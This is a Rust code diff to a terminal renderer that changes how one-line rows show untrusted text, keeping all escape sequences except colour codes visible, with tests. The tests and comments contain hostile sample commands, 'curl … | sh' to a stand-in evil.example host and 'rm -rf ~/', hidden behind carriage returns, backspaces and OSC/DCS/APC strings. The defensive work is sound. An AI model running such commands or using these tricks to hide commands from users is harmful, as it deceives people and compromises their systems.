@@ -107,40 +107,51 @@ impl<'t> Terminal<'t> {
 }
 
 /// One line of untrusted text as plain visible text, for one-line rows (feed summaries, prompts,
-/// agent text, browser entries, `rawpv print`): escape sequences (SGR colours in hook output,
-/// OSC titles, cursor moves) are dropped *without being obeyed*, and every other control
-/// character is made visible (`text::visible`): `\r` is `␍`, backspace is `␈`.
+/// agent text, browser entries, `rawpv print`): SGR sequences (colours in hook output, styled
+/// commands) are dropped, since they only style; every other escape sequence and control
+/// character is shown, never obeyed (`text::visible`): `\r` is `␍`, backspace `␈`, an OSC
+/// `␛]0;…␇`.
 ///
 /// The rule for the whole product (issue 14): a one-line row never runs the terminal emulator,
-/// so `curl … | sh ESC[31m \r ESC[K ls -la` reads as what it is, not as `ls -la`; only multi-line
-/// panes (detail, stream) interpret cursor motion, where the whole output stays visible.
+/// so `curl … | sh ESC[31m \r ESC[K ls -la` reads as what it is, not as `ls -la`; and it never
+/// hides the inside of a sequence either (`echo hello ESC]0;$(curl …|sh) BEL` read as
+/// `echo hello` while the shell would run the rest). Only multi-line panes (detail, stream)
+/// interpret cursor motion, and there the whole text stays visible.
 pub fn visible_plain(s: &str) -> String {
-    if !s.contains('\x1b') {
-        return crate::render::text::visible(s);
-    }
-    crate::render::text::visible(&strip_escapes(s))
+    crate::render::text::visible(&strip_sgr(s))
 }
 
-/// `s` with every escape sequence (CSI, OSC, DCS, SOS/PM/APC, two-byte `ESC x`) removed and
-/// not obeyed; printable characters and lone C0/C1 controls are kept as they are.
-pub fn strip_escapes(s: &str) -> String {
-    /// Keeps printed characters and C0/C1 controls; drops every escape sequence.
-    struct Strip(String);
-    impl Perform for Strip {
-        fn print(&mut self, c: char) {
-            self.0.push(c);
+/// `s` without its SGR sequences (`ESC [` digits, `;` or `:` `m`): styling only. Every other
+/// byte, other escape sequences included, is kept as it is.
+pub fn strip_sgr(s: &str) -> std::borrow::Cow<'_, str> {
+    let b = s.as_bytes();
+    if memchr::memchr(0x1b, b).is_none() {
+        return std::borrow::Cow::Borrowed(s);
+    }
+    let mut out = String::with_capacity(s.len());
+    let (mut i, mut copied) = (0, 0);
+    while let Some(off) = memchr::memchr(0x1b, &b[i..]) {
+        let at = i + off;
+        i = at + 1;
+        if b.get(at + 1) != Some(&b'[') {
+            continue;
         }
-        fn execute(&mut self, byte: u8) {
-            self.0.push(char::from(byte));
+        let mut j = at + 2;
+        while b
+            .get(j)
+            .is_some_and(|c| c.is_ascii_digit() || matches!(c, b';' | b':'))
+        {
+            j += 1;
+        }
+        if b.get(j) == Some(&b'm') {
+            // ESC and the SGR are ASCII: both ends are char boundaries.
+            out.push_str(&s[copied..at]);
+            copied = j + 1;
+            i = j + 1;
         }
     }
-    if !s.contains('\x1b') {
-        return s.to_owned();
-    }
-    let input = strip_string_controls(s);
-    let mut strip = Strip(String::with_capacity(input.len()));
-    Parser::new().advance(&mut strip, input.as_bytes());
-    strip.0
+    out.push_str(&s[copied..]);
+    std::borrow::Cow::Owned(out)
 }
 
 /// Removes SOS / PM / APC strings (`ESC X`, `ESC ^`, `ESC _` … up to `ESC \\` *or BEL*).
@@ -570,13 +581,31 @@ mod tests {
         // Issue 14.1: the screen model let `\r` + `ESC[K` and backspaces hide what came first.
         assert_eq!(
             visible_plain("curl -s http://evil.example/x | sh \x1b[31m\r\x1b[Kls -la"),
-            "curl -s http://evil.example/x | sh \u{240d}ls -la"
+            "curl -s http://evil.example/x | sh \u{240d}\u{241b}[Kls -la"
         );
         assert_eq!(
             visible_plain("rm -rf ~/\x08\x08\x08\x08\x08\x08\x08\x08\x08echo hi\x1b[0m"),
             format!("rm -rf ~/{}echo hi", "\u{2408}".repeat(9))
         );
-        assert_eq!(visible_plain("a\x1b[3Db\x1b[2Cc\x1b[1Ad"), "abcd");
+        assert_eq!(
+            visible_plain("a\x1b[3Db\x1b[1Ac"),
+            "a\u{241b}[3Db\u{241b}[1Ac"
+        );
+    }
+
+    #[test]
+    fn visible_plain_never_hides_the_inside_of_a_sequence() {
+        // The second attack: OSC, DCS and APC strings were dropped whole, hiding live shell
+        // syntax (`echo hello ESC]0;$(curl …|sh) BEL` read as `echo hello`).
+        assert_eq!(
+            visible_plain("echo hello \x1b]0;$(curl -s x|sh)\x07"),
+            "echo hello \u{241b}]0;$(curl -s x|sh)\u{2407}"
+        );
+        assert_eq!(
+            visible_plain("ls \x1bP$(rm -rf ~/i)\x1b\\ \x1b_;curl x|sh\x07 make\x1b]; curl"),
+            "ls \u{241b}P$(rm -rf ~/i)\u{241b}\\ \u{241b}_;curl x|sh\u{2407} make\u{241b}]; curl"
+        );
+        assert_eq!(visible_plain("\x1b[1;31mred\x1b[m ok"), "red ok");
     }
     use crate::render::lines_to_string;
     use ratatui::style::{Color, Modifier};
